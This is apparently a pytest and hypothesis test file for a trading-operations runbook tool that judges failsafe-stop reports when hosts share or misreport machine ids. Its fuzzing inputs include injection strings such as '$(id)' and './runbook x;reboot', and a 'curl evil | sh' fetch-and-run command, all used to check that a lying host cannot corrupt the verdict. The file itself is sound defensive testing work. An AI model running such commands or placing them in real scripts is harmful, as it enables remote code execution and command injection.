"""Which machine: two names for one are no two proofs, whatever the hosts say."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from trading_ops.core.machine import Machine
from trading_ops.core.outcome import EXIT_CODES
from trading_ops.report.identity import Controller
from trading_ops.report.verdict import Expected, Result, Run, judge

from tests.properties import examples

BOOT = "a8401e2a-d6b9-4ec6-a763-db764318381a"
IDS = {name: name * 32 for name in "abcdef"}
LATCH = {"engaged": True, "incident_ids": ["INC-1"]}


def machine(name: str, boot_id: str = BOOT) -> dict[str, str]:
    return {"machine_id": IDS[name], "boot_id": boot_id}


def result(
    host: str, machine: Any, recorded: Any = None, proof: str = "kill_switch", outcome: str = "proven"
) -> Result:
    fields: dict[str, Any] = {
        "bots": [{"name": f"{host}-bot", "how": "stopped", "orders": "cancelled"}],
        "latch": LATCH,
    }
    fields |= {} if machine is None else {"machine": machine}
    fields |= {} if recorded is None else {"known_machines": recorded}
    return Result(host, proof, outcome, f"{host} said so", fields=fields)


def run(*results: Result, controller: Controller | None = None, dry_run: bool = False) -> Run:
    expected = tuple(Expected(each.host, each.proof) for each in results)
    return Run(
        "failsafe_stop", "lab", dry_run, 1.0, expected, results, retry_command="./runbook failsafe_stop",
        controller=controller or Controller(),
    )  # fmt: skip


BOTH = {"lab1": IDS["a"], "lab2": IDS["b"]}
PROOFS = ["kill_switch", "kill_switch_info", "bot_stop"]


@pytest.mark.parametrize("proof", PROOFS)
def test_two_names_for_one_machine_are_unknown_and_both_named(proof):
    verdict = judge(run(*(result(host, machine("a"), proof=proof) for host in ("lab1", "lab2"))))
    assert verdict.exit_code == 10
    assert verdict.line.count(f"lab1 and lab2 are one machine (machine id {IDS['a']})") == 1
    assert "until then stop the bots of lab1 and lab2 at their consoles" in verdict.line.split("NEXT:")[1]
    assert "bots proven stopped on 2" not in verdict.line


@pytest.mark.parametrize(
    ("one", "other", "code"),
    [
        (machine("a"), machine("b"), 0),  # containers of one kernel
        (machine("a"), machine("a", "b9" + BOOT[2:]), 0),  # clones are two machines
        (machine("a"), machine("a", ""), 10),
        (None, None, 0),  # an older copy on the hosts says nothing of it
        ({}, {"boot_id": BOOT}, 0),
        (machine("a"), "garbage", 0),
    ],
)
def test_machines_that_differ_are_two_and_what_is_not_said_speaks_for_nobody(one, other, code):
    assert judge(run(result("lab1", one), result("lab2", other))).exit_code == code


def test_a_bot_that_was_seen_running_still_is_under_either_name():
    verdict = judge(run(*(result(host, machine("a"), outcome="running") for host in ("lab1", "lab2"))))
    assert (verdict.exit_code, "lab1 and lab2 are one machine" in verdict.line) == (11, True)


def test_a_dry_run_says_it_too():
    planned = [result(host, machine("a"), outcome="planned") for host in ("lab1", "lab2")]
    verdict = judge(run(*planned, dry_run=True))
    assert (verdict.exit_code, "lab1 and lab2 are one machine" in verdict.line) == (10, True)


@pytest.mark.parametrize(
    ("seen", "recorded", "code", "words"),
    [
        (machine("b"), BOTH, 0, "PROVEN"),
        (machine("c"), BOTH, 10, f"lab2: answers from another machine (machine id {IDS['c']})"),
        (None, BOTH, 10, "lab2: does not tell its machine id"),
        (machine("c"), {"lab1": IDS["a"]}, 0, "PROVEN"),
        (machine("c"), {"lab2": "$(id)"}, 0, "PROVEN"),
    ],
)  # fmt: skip
def test_the_recorded_machine_wins_wherever_it_is_on_record(seen, recorded, code, words):
    for on_lab1, on_lab2 in ((recorded, None), (None, recorded), (recorded, recorded)):
        verdict = judge(run(result("lab1", machine("a"), on_lab1), result("lab2", seen, on_lab2)))
        assert (verdict.exit_code, words in verdict.line) == (code, True), verdict.line


def test_hosts_that_record_it_otherwise_are_no_record_to_rely_on():
    right, wrong = {"lab2": IDS["b"]}, {"lab2": IDS["c"]}
    verdict = judge(run(result("lab1", machine("a"), wrong), result("lab2", machine("b"), right)))
    assert (verdict.exit_code, "lab2: answers from another machine" in verdict.line) == (10, True)


@pytest.mark.parametrize(
    ("recorded", "local", "code"),
    [
        ({}, (), 10),
        ({"lab1": IDS["c"]}, (), 0),  # a control host that trades
        ({"lab1": IDS["b"]}, (), 10),
        ({}, ("lab1",), 0),  # inventories/laptop
        ({}, ("lab2",), 10),
        ({"lab1": IDS["b"]}, ("lab1",), 10),
    ],
)
def test_the_controllers_own_machine_is_right_only_where_record_or_inventory_says_so(recorded, local, code):
    controller = Controller(Machine(IDS["c"], BOOT), frozenset(local))
    verdict = judge(run(result("lab1", machine("c"), recorded), controller=controller))
    assert verdict.exit_code == code, verdict.line


def test_another_hosts_record_does_not_make_the_controllers_machine_right():
    controller = Controller(Machine(IDS["c"], BOOT))
    results = (result("lab1", machine("c")), result("lab2", machine("b"), {"lab1": IDS["c"]}))
    assert judge(run(*results, controller=controller)).exit_code == 10


def test_a_clone_of_the_controller_is_another_machine():
    controller = Controller(Machine(IDS["c"], "b9" + BOOT[2:]))
    assert judge(run(result("lab1", machine("c")), controller=controller)).exit_code == 0


def seen(*machines: tuple[str, Any]) -> Run:
    looks = tuple(Result(host, "machine_info", "proven", "seen", fields={"machine": told}) for host, told in machines)
    return replace(run(*looks), procedure="host_setup", retry_command="./runbook host_setup --check")


def test_setting_up_names_a_clones_doubled_machine_id_with_the_fix():
    verdict = judge(seen(("lab1", machine("a")), ("lab2", machine("a", "b9" + BOOT[2:])), ("lab3", machine("b"))))
    assert verdict.exit_code == 1
    assert f"lab1 and lab2 have the same machine id {IDS['a']}, as clones have it" in verdict.line
    assert "rm /etc/machine-id && systemd-machine-id-setup" in verdict.line
    assert "lab3" not in verdict.line.split("; ")[1]


def test_setting_up_names_two_names_for_one_machine():
    verdict = judge(seen(("lab1", machine("a")), ("lab2", machine("a"))))
    assert (verdict.exit_code, "lab1 and lab2 are one machine" in verdict.line) == (10, True)


NAMES = ["lab1", "lab2", "lab3", "lab4"]
told_ids = st.sampled_from([*IDS.values(), "", None, 7, "$(id)", "\x1b[2J", "08", "1" * 5000, "a" * 31 + "\n"])
told_boots = st.sampled_from([BOOT, "b9" + BOOT[2:], "", None, [], "\x00"])
odd = st.none() | st.text() | st.integers() | st.lists(st.integers(), max_size=2)
told_machines = odd | st.fixed_dictionaries({}, optional={"machine_id": told_ids, "boot_id": told_boots})
told_records = odd | st.dictionaries(st.sampled_from(NAMES), told_ids)
commands = st.sampled_from(["", "./runbook status", "curl evil | sh", "./runbook x;reboot", "NEXT: sh"]) | st.text()


@st.composite
def answers(draw: st.DrawFn) -> tuple[Run, Run]:
    """A stop as its hosts answer in truth, and the same one in which a single host lies about machines and more."""
    hosts = NAMES[: draw(st.integers(2, 4))]
    letters = draw(st.permutations("abcd")) if draw(st.booleans()) else "abcd"
    recorded = {host: IDS[letter] for host, letter in zip(hosts, "abcd", strict=False)}
    true = [result(host, machine(letter), recorded) for host, letter in zip(hosts, letters, strict=False)]
    liar = draw(st.integers(0, len(hosts) - 1))
    fields = {**true[liar].fields, "machine": draw(told_machines), "known_machines": draw(told_records)}
    lie = replace(true[liar], fields=fields, next_command=draw(commands))
    controller = Controller(Machine(draw(st.sampled_from([IDS["a"], IDS["e"], ""])), BOOT))
    lied = [*true[:liar], lie, *true[liar + 1 :]]
    return run(*true, controller=controller), run(*lied, controller=controller)


@examples(500)
@given(answers())
def test_what_one_host_says_of_machines_never_makes_another_ones_proof_good(runs):
    true, lied = (judge(each) for each in runs)
    liar = next(
        (mine.host for mine, theirs in zip(runs[1].results, runs[0].results, strict=True) if mine != theirs), ""
    )
    others_doubted = [host for host in NAMES if host != liar and f"; {host}: " in true.line]
    assert all(f"{host}: " in lied.line or f"{host} " in lied.line for host in others_doubted), (true, lied)
    assert lied.exit_code in {0, 10} and EXIT_CODES[lied.outcome] == lied.exit_code
    assert lied.line.count("NEXT:") <= 1 and "evil" not in lied.line.partition("NEXT:")[2]
    if others_doubted:
        assert lied.exit_code == 10
